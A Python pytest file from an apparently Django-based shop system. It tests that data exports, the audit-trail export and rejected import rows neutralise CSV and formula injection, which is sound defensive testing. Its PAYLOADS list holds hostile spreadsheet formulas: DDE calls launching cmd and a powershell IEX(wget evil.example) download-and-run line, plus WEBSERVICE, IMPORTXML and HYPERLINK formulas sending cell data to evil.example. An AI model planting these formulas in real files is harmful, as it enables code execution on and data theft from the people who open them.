"""No text of anybody becomes a formula in a spreadsheet: every dataset in every format, the trail's own export, and the
rows that an import rejects.

The vectors are made from the known families (OWASP, CSV Injection; PayloadsAllTheThings, CSV Injection).
"""

import ast
import csv
import io
import json
import re
from collections.abc import Callable
from decimal import Decimal
from itertools import product as pairs

import pytest
from django.db.models import QuerySet
from openpyxl import load_workbook

from audit.sealing import seal
from audit.services import event_record
from customers.models import Customer, Ticket
from inventory.models import Category, Location, Product, StockLevel, StockMovement, Supplier
from orchestrator.exporting.datasets import DATASETS
from pricing.models import PriceChange
from shop_assistant.accounts.models import User
from shop_assistant.agents import call
from shop_assistant.tables.rejects import formula_safe
from shop_assistant.tables.writing import DELIMITERS, restored
from tests import ROOT
from tests.conftest import Api
from tests.exporting.conftest import exported

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""With which a spreadsheet begins a formula; tabs and line ends are skipped before it looks (OWASP)."""
PREFIXES = (*STARTS, "\t=", "\r=", "\n=", "\r\n=", "=+", "=-", "+=", "-@", "@=", "'=", "''=", "'+", "'\uff1d")
PAYLOADS = (
    "cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    'DDE("cmd";"/C calc";"!A0")A0',
    "1+1",
    "SUM(1+9)*cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1&A2,"Error: click here")',
    'WEBSERVICE("https://evil.example/"&A1)',
    'IMPORTXML(CONCAT("https://evil.example/",CONCATENATE(A2:E2)),"//a/a10")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'IMPORTDATA("https://evil.example/")',
)
ODD = (
    '=1+1",=2+2',
    '"=1+1"',
    ",=1+1",
    ";=1+1",
    "\n=1+1",
    '=1\n=2\r\n"=3',
    "=",
    "-",
    "@",
    "+",
    "'",
    "'=",
    "-1+1",
    "+44 20",
)
VECTORS = list(dict.fromkeys([*(prefix + payload for prefix, payload in pairs(PREFIXES, PAYLOADS)), *ODD]))
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def test_there_are_enough() -> None:
    assert len(VECTORS) >= 250
    assert all(len(vector) <= 100 for vector in VECTORS)


@pytest.fixture
def planted(waiting: None, api: Callable[[str], Api]) -> None:
    """The vectors in whatever text the shop keeps, as if no form had looked at it."""
    location, like = Location.objects.order_by("pk").first(), Product.objects.get(sku="SKU001")
    assert location
    categories = Category.objects.create_all([Category(name=vector) for vector in VECTORS])
    suppliers = Supplier.objects.create_all(
        [Supplier(code=f"{vector[:27]}{number}", name=vector) for number, vector in enumerate(VECTORS)]
    )
    products = Product.objects.create_all(
        Product(sku=f"{v[:59]}{n}", name=v, list_price=Decimal(5), category=categories[n], supplier=suppliers[n])
        for n, v in enumerate(VECTORS)
    )
    QuerySet(StockLevel).bulk_create(StockLevel(product=made, location=location, on_hand=1) for made in products)
    QuerySet(StockMovement).bulk_create(
        StockMovement(
            product=like, location=location, kind="adjustment", quantity=1, balance=1, reason=vector,
            reference=vector[:64], user_id=vector[:32],
        )
        for vector in VECTORS
    )  # fmt: skip
    QuerySet(PriceChange).bulk_create(
        PriceChange(product=like, old_price=1, new_price=2, reason=vector, user_id=vector[:32], status="proposed")
        for vector in VECTORS
    )
    like.name = VECTORS[0]
    like.save()
    person = Customer.objects.get(public_id="CUST001")
    for number, vector in enumerate(VECTORS):
        ticket = Ticket(reference=f"T-{number}", customer=person)
        ticket.seal({"subject": vector})
        ticket.save()
        event_record("TILL_OPENED", user_id=vector[:32], agent=vector[:32], details=vector)
    person.seal({"name": VECTORS[0], "address": VECTORS[1], "email": VECTORS[2], "phone": VECTORS[3]})
    person.save()
    for vector in VECTORS[::10]:
        asker = User(username="x", public_id=vector[:32], is_superuser=True)
        call("inventory", "query", {"sku": "SKU001"}, user=asker)
    seal()


def harmful(cell: str) -> bool:
    return cell.startswith(STARTS) and not NUMBER.fullmatch(cell)


LEAST = {"inventory": 4, "movements": 3, "prices": 2, "audit": 2, "tickets": 1}
"""How many columns hold each vector; in the others there are some."""


@pytest.mark.django_db
def test_in_every_dataset_and_format(planted: None) -> None:
    for name, dataset in DATASETS.items():
        for personal in {False, dataset.has_personal}:
            for delimiter in DELIMITERS:
                text = exported(name, "csv", personal=personal, delimiter=delimiter).decode()
                rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
                assert {len(row) for row in rows} == {len(rows[0])}, "no vector makes a cell or a row of its own"
                cells = [cell for row in rows for cell in row]
                assert [cell for cell in cells if harmful(cell)] == [], (name, delimiter)
                defused = [cell for cell in cells if cell.startswith("'")]
                assert len(defused) >= LEAST.get(name, 0) * (len(VECTORS) - len(ODD)) * (personal or name != "tickets")
                assert all(restored(cell).startswith((*STARTS, "'")) for cell in defused), "nothing else is touched"
            book = load_workbook(io.BytesIO(exported(name, "xlsx", personal=personal)))
            kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
            assert kinds <= {"s", "n", "b", "inlineStr"}, (name, kinds)
            assert not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)
            for line in exported(name, "jsonl", personal=personal).splitlines():
                json.loads(line)


@pytest.mark.django_db
def test_in_the_trails_own_export(planted: None, api: Callable[[str], Api]) -> None:
    answer = api("owner").post("/api/audit/export", {"format": "csv", "event": "TILL_OPENED"}).json()["data"]
    text = next(value for value in answer.values() if isinstance(value, str) and "event_id" in value)
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert [restored(row["user_id"]) for row in rows[:20]] == [vector[:32] for vector in VECTORS[:20]]
    assert len(rows) >= 100
    assert [cell for row in rows for cell in row.values() if harmful(cell)] == []


def test_in_rejected_rows() -> None:
    assert [vector for vector in VECTORS if harmful(formula_safe(vector))] == []


CSV_WRITERS = {"audit/agent.py", "shop_assistant/tables/rejects.py", "shop_assistant/demo/make_extract.py"}
"""They defuse their cells (see above), or write what the shop ships with."""


def test_nobody_else_writes_csv() -> None:
    """Whatever comes: `shop_assistant.tables.writing.CsvWriter` writes it."""
    found = set()
    for app in ("audit", "customers", "inventory", "orchestrator", "pricing", "shop_assistant"):
        for path in (ROOT / app).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                    name = getattr(node.value, "id", "")
                    found |= {path.relative_to(ROOT).as_posix()} if name == "csv" else set()
    assert found == CSV_WRITERS
